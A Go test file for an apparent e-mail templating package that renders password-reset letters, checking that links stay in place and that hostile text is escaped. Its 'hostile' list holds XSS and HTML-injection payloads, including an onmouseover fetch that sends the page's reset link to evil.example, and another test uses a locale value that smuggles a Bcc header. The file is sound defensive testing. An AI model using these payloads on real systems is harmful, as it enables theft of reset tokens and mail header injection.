package letter_test

import (
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"

	"github.com/atrium-mesh/atrium/pkg/errs"
	"github.com/atrium-mesh/atrium/pkg/mail/letter"
)

const (
	action = "https://app.example.com/account/reset-password?token=s3cret-of-the-action"
	other  = "https://app.example.com/account/disown?token=s3cret-of-the-other"
)

func newLayout(t testing.TB) *letter.Layout {
	t.Helper()
	layout, err := letter.NewLayout(letter.Brand{Product: "Atrium", URL: "https://app.example.com"})
	require.NoError(t, err)
	return layout
}

func good() letter.Letter {
	return letter.Letter{
		Locale: "en", Subject: "Choose a new password", Greeting: "Hello Ada,", Intro: []string{"You asked for it."},
		Details: []letter.Detail{{Label: "Device", Value: "Firefox on Linux"}}, Action: "Choose a new password", LinkHelp: "Or copy this:",
		Outro: []string{"It works once."}, Other: "I did not sign up", Why: "There is an account.", Unsubscribe: "Stop e-mails like this",
	}
}

// everywhere is a letter that says the same in every place.
func everywhere(text string) letter.Letter {
	return letter.Letter{
		Locale: "en", Subject: text, Greeting: text, Intro: []string{text, text}, Details: []letter.Detail{{Label: text, Value: text}},
		Action: text, LinkHelp: text, Outro: []string{text, text}, Other: text, Why: text, Unsubscribe: text,
	}
}

func TestFill(t *testing.T) {
	t.Parallel()
	mail, err := newLayout(t).Fill(good(), letter.Links{Action: action, Other: other})
	require.NoError(t, err)
	require.Equal(t, "Choose a new password", mail.Subject)
	require.Equal(t, []string{action, action, other, "https://app.example.com"}, hrefs(t, mail.HTML))
	require.Contains(t, mail.Text, "\nChoose a new password:\n"+action+"\n")
	require.Contains(t, mail.Text, "\nI did not sign up:\n"+other+"\n")
	require.NotContains(t, mail.Text+mail.HTML, "Stop e-mails", "there is no link to do so")

	mail, err = newLayout(t).Fill(good(), letter.Links{})
	require.NoError(t, err)
	require.Equal(t, []string{"https://app.example.com"}, hrefs(t, mail.HTML))
	require.NotContains(t, mail.Text+mail.HTML, "I did not sign up")

	mail, err = newLayout(t).Fill(good(), letter.Links{Action: "javascript:alert(1)"})
	require.NoError(t, err)
	require.NotContains(t, mail.HTML, `href="javascript`)
}

// hostile is what an author would write who wants the link to go elsewhere: tags that load something, attributes and comments that stay
// open and swallow what follows, up to the link.
var hostile = []string{
	`<img src='https://evil.example/?`, `<img src="https://evil.example/?`, `<a href='https://evil.example/?`, `"><a href=https://evil.example/?`,
	`' onmouseover='fetch("https://evil.example/"+document.links[0])`, `<!--`, `-->`, `<style>@import 'https://evil.example/`,
	`</title><meta http-equiv="refresh" content="0;url=https://evil.example/?`, `<textarea>`, `<form action=https://evil.example/><button name=x value='`,
	`<base href="https://evil.example/">`, `<plaintext>`, `<![CDATA[`, `<script>`, "`", `{{.Links.Action}}`, `&#60;img src=x&#62;`, `\`, `<svg/onload=`,
}

// TestFill_hostile: whatever the words say, the links stand in their own places and in no other, and nothing of the words is more than text.
func TestFill_hostile(t *testing.T) {
	t.Parallel()
	layout := newLayout(t)
	plain, err := layout.Fill(everywhere("words"), letter.Links{Action: action, Other: other})
	require.NoError(t, err)
	for _, words := range append(hostile, strings.Join(hostile, " ")) {
		l := everywhere(words)
		if len(words) < 300 {
			require.NoError(t, l.Check("letter"), "it is text: %s", words)
		}
		mail, err := layout.Fill(l, letter.Links{Action: action, Other: other})
		require.NoError(t, err)
		require.Equal(t, shape(t, plain.HTML), shape(t, mail.HTML), "elements, attributes and their values are those of harmless words: %s", words)
		require.Equal(t, strings.Count(plain.HTML, "s3cret"), strings.Count(mail.HTML, "s3cret"), words)
		for _, link := range []string{action, other} {
			require.Equal(t, 1, strings.Count(mail.Text, link), words)
			require.Contains(t, mail.Text, "\n"+link+"\n", "on a line of its own: %s", words)
		}
	}
}

func TestCheck(t *testing.T) {
	t.Parallel()
	require.NoError(t, good().Check("letter"))
	require.NoError(t, everywhere("می\u200cخواهم শর্\u200dমা").Check("letter"), "joiners stay")
	require.NoError(t, everywhere("\u2800").Check("letter"), "what cannot be seen keeps no mail back")
	require.NoError(t, letter.Letter{Locale: "en"}.Check("letter"))

	for name, text := range map[string]string{
		"a line": "a\nb", "a return": "a\rb", "a tab": "a\tb", "NUL": "a\x00b", "escape": "\x1b[2J", "next line": "a\u0085b", "a separator": "a\u2028b",
		"a paragraph's": "a\u2029b", "an override": "a\u202eb", "an isolate": "a\u2066b", "no UTF-8": "a\xffb", "a byte order mark": "\ufeff", "soft hyphen": "a\u00adb",
	} {
		for place, spoil := range places() {
			l := good()
			spoil(&l, text)
			requireRefused(t, l, place, name)
		}
	}
	for place, spoil := range places() {
		l := good()
		spoil(&l, strings.Repeat("x", 2001))
		requireRefused(t, l, place, "too long")
	}
	many := good()
	many.Intro = make([]string, 9)
	requireRefused(t, many, "letter", "too many paragraphs")
	many = good()
	many.Details = make([]letter.Detail, 1<<16)
	requireRefused(t, many, "letter", "too many details")
	many = good()
	many.Intro = slices.Repeat([]string{strings.Repeat("語", 1999)}, 8)
	requireRefused(t, many, "letter", "too many bytes")
	for _, locale := range []string{"", `en" onload="x`, "en\r\nBcc: eve@evil.example", strings.Repeat("en-", 20), "no such language"} {
		l := good()
		l.Locale = locale
		requireRefused(t, l, "letter.locale", locale)
	}
}

func places() map[string]func(*letter.Letter, string) {
	return map[string]func(*letter.Letter, string){
		"letter.subject":          func(l *letter.Letter, s string) { l.Subject = s },
		"letter.greeting":         func(l *letter.Letter, s string) { l.Greeting = s },
		"letter.intro[0]":         func(l *letter.Letter, s string) { l.Intro[0] = s },
		"letter.details[0].label": func(l *letter.Letter, s string) { l.Details[0].Label = s },
		"letter.details[0].value": func(l *letter.Letter, s string) { l.Details[0].Value = s },
		"letter.action":           func(l *letter.Letter, s string) { l.Action = s },
		"letter.link_help":        func(l *letter.Letter, s string) { l.LinkHelp = s },
		"letter.outro[0]":         func(l *letter.Letter, s string) { l.Outro[0] = s },
		"letter.other":            func(l *letter.Letter, s string) { l.Other = s },
		"letter.why":              func(l *letter.Letter, s string) { l.Why = s },
		"letter.unsubscribe":      func(l *letter.Letter, s string) { l.Unsubscribe = s },
	}
}

func requireRefused(t *testing.T, l letter.Letter, field, why string) {
	t.Helper()
	err := l.Check("letter")
	require.ErrorIs(t, err, errs.Invalid, "%s in %s", why, field)
	require.Equal(t, field, errs.From(err).Fields[0].Field, why)
}

// hrefs are where the links of a page lead, in order.
func hrefs(t *testing.T, page string) []string {
	t.Helper()
	var out []string
	for _, line := range shape(t, page) {
		if address, ok := strings.CutPrefix(line, "a href="); ok {
			_, err := url.Parse(address)
			require.NoError(t, err)
			out = append(out, address)
		}
	}
	return out
}

// shape is a page's elements with their attributes, as a browser reads them, without its text.
func shape(t *testing.T, page string) []string {
	t.Helper()
	root, err := html.Parse(strings.NewReader(page))
	require.NoError(t, err)
	var out []string
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			require.NotEqual(t, html.CommentNode, n.Type)
			continue
		}
		out = append(out, "<"+n.Data)
		for _, attr := range n.Attr {
			out = append(out, n.Data+" "+attr.Key+"="+attr.Val)
		}
	}
	return out
}
